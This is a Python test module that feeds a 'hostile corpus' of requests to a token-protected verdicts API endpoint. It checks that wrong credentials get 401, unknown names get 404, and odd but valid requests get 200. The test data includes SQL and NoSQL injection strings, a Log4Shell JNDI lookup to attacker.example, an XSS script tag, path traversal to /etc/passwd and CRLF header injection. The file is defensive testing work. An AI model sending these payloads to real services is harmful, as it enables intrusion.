"""Hostile corpus for ``GET /tests/{name}`` (the bearer-protected verdicts API; ``GET /tests`` shares its handler).

The configured test ``new-checkout-health`` has been evaluated once (``prepare``: NO_DATA). Refusals:
credentials (401 before any lookup, so a wrong token never reveals which tests exist), names that are not a
configured test (404 ``test_not_found``, whatever they contain), methods and paths (404). Hostile-looking but
valid requests must still be 200.
"""

from __future__ import annotations

import base64
from typing import Any

from tests.conftest import PROFILE_TOKEN, WEBHOOK_TOKEN
from tests.hostile.support import ORACLE_TOKEN, ORACLE_VERDICTS_TABLE, Case, Route

ROUTE = Route(handler="oracle_api", method="GET", path="/tests/{name}")
ID_PREFIX = "oracle_api"

KNOWN = "/tests/new-checkout-health"
BEARER = f"Bearer {ORACLE_TOKEN}"
BASE_HEADERS = {"Host": "bridge.example.com", "User-Agent": "curl/8.5.0"}


def prepare(aws: dict[str, Any], lambda_context: Any) -> None:
    """One evaluation of the shipped configuration's test, stored in the verdicts table."""
    from flagbridge import runtime
    from flagbridge.oracle.service import Evaluator, oracle_config
    from flagbridge.oracle.store import DynamoDBVerdictStore, InMemoryCounterStore

    class Silent:
        def verdict_changed(self, report: Any, changed: Any) -> None:
            return None

        def metrics(self, report: Any) -> None:
            return None

    config = oracle_config(runtime.settings().config)
    store = DynamoDBVerdictStore(aws["ddb"], ORACLE_VERDICTS_TABLE)
    [report] = Evaluator(config, InMemoryCounterStore(), store, Silent()).run()
    assert report["state"] == "NO_DATA"


def case(name: str, status: int, error: str | None = None, *, path: str = KNOWN,
         authorization: str | None = BEARER, headers: dict[str, str] | None = None, **kwargs: Any) -> Case:  # fmt: skip
    merged = dict(BASE_HEADERS)
    if authorization is not None:
        merged["Authorization"] = authorization
    merged.update(headers or {})
    return Case(name=name, status=status, error=error, path=path, headers=merged, **kwargs)


def unauthorized(name: str, authorization: str | None, **kwargs: Any) -> Case:
    return case(name, 401, "unauthorized", authorization=authorization, **kwargs)


def not_found(name: str, test: str) -> Case:
    """A well-routed request for a test that is not configured (``test`` as it appears in the URL)."""
    return case(name, 404, "test_not_found", path=f"/tests/{test}")


def gateway_404(name: str, method: str = "GET", path: str = KNOWN) -> Case:
    return case(name, 404, "not_found", method=method, path=path, gateway_404=True)


def _set_authorization(value: str) -> Any:
    def hook(event: dict[str, Any]) -> None:
        event["headers"]["authorization"] = value

    return hook


CASES: list[Case] = [
    # ---- credentials: 401 before any lookup ----------------------------------------------------
    unauthorized("no_authorization", None),
    unauthorized("no_authorization_unknown_test", None, path="/tests/nope"),
    unauthorized("empty_authorization", ""),
    unauthorized("scheme_only", "Bearer"),
    unauthorized("scheme_and_spaces", "Bearer    "),
    unauthorized("wrong_token", "Bearer nope"),
    unauthorized("wrong_token_unknown_test", "Bearer nope", path="/tests/nope"),
    unauthorized("token_prefix", f"Bearer {ORACLE_TOKEN[:-1]}"),
    unauthorized("token_with_suffix", f"Bearer {ORACLE_TOKEN}x"),
    unauthorized("token_other_case", f"Bearer {ORACLE_TOKEN.upper()}"),
    unauthorized("token_without_scheme", ORACLE_TOKEN),
    unauthorized("scheme_typo", f"Bearr {ORACLE_TOKEN}"),
    unauthorized("scheme_glued_to_token", f"Bearer{ORACLE_TOKEN}"),
    unauthorized("basic_scheme", "Basic " + base64.b64encode(f"user:{ORACLE_TOKEN}".encode()).decode()),
    unauthorized("profile_token_as_bearer", f"Bearer {PROFILE_TOKEN}"),
    unauthorized("webhook_token_as_bearer", f"Bearer {WEBHOOK_TOKEN}"),
    unauthorized("token_in_query_only", None, query=f"token={ORACLE_TOKEN}"),
    unauthorized("token_in_other_header", None, headers={"X-Flagbridge-Token": ORACLE_TOKEN}),
    unauthorized("duplicated_authorization_right_and_wrong", BEARER, headers={"authorization": "Bearer nope"}),
    unauthorized("huge_token", "Bearer " + "A" * 65_536),
    unauthorized("token_not_ascii", "Bearer t\u00f6k\u00e9n-\U0001f511"),
    unauthorized("token_with_nul", f"Bearer {ORACLE_TOKEN}\u0000"),
    unauthorized("token_with_crlf_injection", f"Bearer {ORACLE_TOKEN}\r\nX-Injected: 1"),
    unauthorized("token_sql_injection", "Bearer ' OR '1'='1"),
    unauthorized("token_lone_surrogate", None, event_hook=_set_authorization("Bearer tok\udc80en\ud800")),
    # ---- names: not a configured test ------------------------------------------------------------
    not_found("unknown_test", "nope"),
    not_found("name_other_case", "NEW-CHECKOUT-HEALTH"),
    not_found("name_with_suffix", "new-checkout-health2"),
    not_found("name_prefix", "new-checkout"),
    not_found("sql_injection", "%27%20OR%20%271%27%3D%271"),
    not_found("nosql_injection", "%7B%22%24ne%22%3Anull%7D"),
    not_found("log4shell", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D"),
    not_found("script_tag", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    not_found("encoded_path_traversal", "..%2F..%2Fetc%2Fpasswd"),
    not_found("encoded_slash", "new-checkout-health%2FSTATE"),
    not_found("hash_in_name", "TEST%23new-checkout-health"),
    not_found("key_prefix_of_the_table", "TEST%23new-checkout-health%23STATE"),
    not_found("nul_in_name", "new-checkout-health%00"),
    not_found("control_characters", "%1B%5B31m%07%7F"),
    not_found("crlf_in_name", "x%0D%0ASet-Cookie%3A%20x%3D1"),
    not_found("invalid_utf8_percent", "%FF%FE"),
    not_found("overlong_utf8_percent", "%C0%AF"),
    not_found("encoded_surrogate_percent", "%ED%A0%80"),
    not_found("double_encoded", "new-checkout-health%2525"),
    not_found("truncated_percent", "new-checkout-health%"),
    not_found("spaces", "new%20checkout%20health"),
    not_found("dot_name", "."),
    not_found("star_name", "*"),
    not_found("fullwidth_name", "%EF%BD%8Eew-checkout-health"),
    not_found("name_4096_bytes", "n" * 4096),
    not_found("multibyte_name", "%F0%9F%98%80" * 600),
    # ---- valid, if odd ---------------------------------------------------------------------------
    case("known_test", 200),
    case("trailing_query", 200, query="verbose=1&token=x"),
    case("extra_headers", 200, headers={"X-Forwarded-For": "1.2.3.4, ' OR 1=1", "Accept": "text/html"}),
    case("authorization_scheme_lower_case", 200, authorization=f"bearer {ORACLE_TOKEN}"),
    # ---- methods and paths: API Gateway has no route for these ----------------------------------
    gateway_404("post", "POST"),
    gateway_404("put", "PUT"),
    gateway_404("delete", "DELETE"),
    gateway_404("patch", "PATCH"),
    gateway_404("trailing_slash_only", path="/tests/"),
    gateway_404("nested_path", path="/tests/new-checkout-health/history"),
]
